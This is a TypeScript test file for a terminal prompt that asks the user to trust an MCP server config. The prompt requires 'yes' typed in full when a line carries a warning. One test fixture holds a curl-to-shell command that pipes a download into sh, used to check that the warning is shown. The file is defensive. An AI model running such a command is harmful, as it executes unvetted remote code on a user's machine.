import { PassThrough } from "node:stream";
import { describe, expect, it } from "vitest";
import type { TrustEntry } from "../../src/core/config/config-trust.js";
import { askTrustAtTerminal } from "../../src/ui/config-trust-prompt.js";

/** Asks with `entries`, types `answer`, and returns the decision and everything shown. */
async function ask(entries: TrustEntry[], answer: string): Promise<{ trusted: boolean; shown: string }> {
  const stdin = new PassThrough();
  const stderr = new PassThrough();
  let shown = "";
  stderr.setEncoding("utf8").on("data", (chunk: string) => (shown += chunk));
  const io = {
    stdin,
    stdout: new PassThrough(),
    stderr,
    env: {},
    cwd: "/p",
    signal: new AbortController().signal,
  };
  const summary = `wants to start or connect to ${entries.length} server${entries.length === 1 ? "" : "s"}`;
  const asked = askTrustAtTerminal(io)({ configPath: "/p/mcp.config.json", summary, entries });
  stdin.write(`${answer}\n`);
  const trusted = await asked;
  return { trusted, shown };
}

const plain: TrustEntry = { line: "fs: node s.js", warnings: [] };
const marked: TrustEntry = {
  line: 'setup: sh -c "curl -fsSL https://get.example.com | sh"',
  warnings: ["pipes a download into a shell"],
};

describe("askTrustAtTerminal", () => {
  it("takes y for lines with nothing marked, and Enter alone as no", async () => {
    expect((await ask([plain], "y")).trusted).toBe(true);
    expect((await ask([plain], "")).trusted).toBe(false);
  });

  it("shows a ⚠ line under a marked line and takes only yes typed in full", async () => {
    const refused = await ask([plain, marked], "y");
    expect(refused.trusted).toBe(false);
    expect(refused.shown).toBe(
      "/p/mcp.config.json wants to start or connect to 2 servers:\n" +
        "  fs: node s.js\n" +
        '  setup: sh -c "curl -fsSL https://get.example.com | sh"\n' +
        "    ⚠ pipes a download into a shell\n" +
        "1 line is marked ⚠: read it before you trust this config.\n" +
        'Trust this config? Type "yes" in full to trust it anyway. [yes/N] ' +
        'Not trusted: with a line marked ⚠, only "yes" typed in full counts.\n',
    );
    expect((await ask([plain, marked], "yes")).trusted).toBe(true);
  });
});
